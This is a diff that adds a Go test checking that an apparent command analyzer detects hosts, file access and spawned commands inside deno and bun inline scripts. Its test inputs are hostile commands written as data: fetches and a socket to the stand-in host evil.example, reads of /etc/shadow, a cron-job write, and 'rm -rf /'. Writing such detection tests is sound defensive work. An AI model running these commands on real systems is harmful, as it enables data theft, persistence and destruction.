@@ -59,3 +59,21 @@ func TestInterpreterOperands(t *testing.T) {
 		t.Errorf("perl -ne: the code was taken for a script: %+v", c)
 	}
 }
+
+// TestDenoBun checks deno's and bun's inline forms (deno eval, bun -e, bun
+// eval, `deno run -` with a piped or heredoc program) and their own APIs.
+func TestDenoBun(t *testing.T) {
+	hasHost(t, `deno eval "fetch('https://evil.example/x')"`, "evil.example")
+	hasHost(t, `bun -e "fetch('https://evil.example/x')"`, "evil.example")
+	hasHost(t, `bun eval "fetch('https://evil.example/x')"`, "evil.example")
+	hasHost(t, "deno run -A - <<'EOF'\nfetch('https://evil.example/x')\nEOF", "evil.example")
+	hasHost(t, `echo "fetch('https://evil.example/x')" | deno run -A -`, "evil.example")
+	hasHost(t, `deno eval "Deno.connect({hostname: 'evil.example', port: 4444})"`, "evil.example")
+	hasFile(t, `deno eval "await Deno.readTextFile('/etc/shadow')"`, "/etc/shadow", "read")
+	hasFile(t, `bun eval "await Bun.file('/etc/shadow').text()"`, "/etc/shadow", "read")
+	hasFile(t, `bun -e "Bun.write('/etc/cron.d/x', '* * * * * id')"`, "/etc/cron.d/x", "write")
+	hasNested(t, `deno eval "new Deno.Command('rm', {args: ['-rf', '/']}).outputSync()"`, "rm", "-rf", "/")
+	hasNested(t, `deno eval "Deno.run({cmd: ['sh', '-c', 'id']})"`, "id")
+	hasNested(t, `bun -e "Bun.spawn(['sh', '-c', 'id'])"`, "id")
+	noHost(t, `deno run app.ts`, "evil.example")
+}
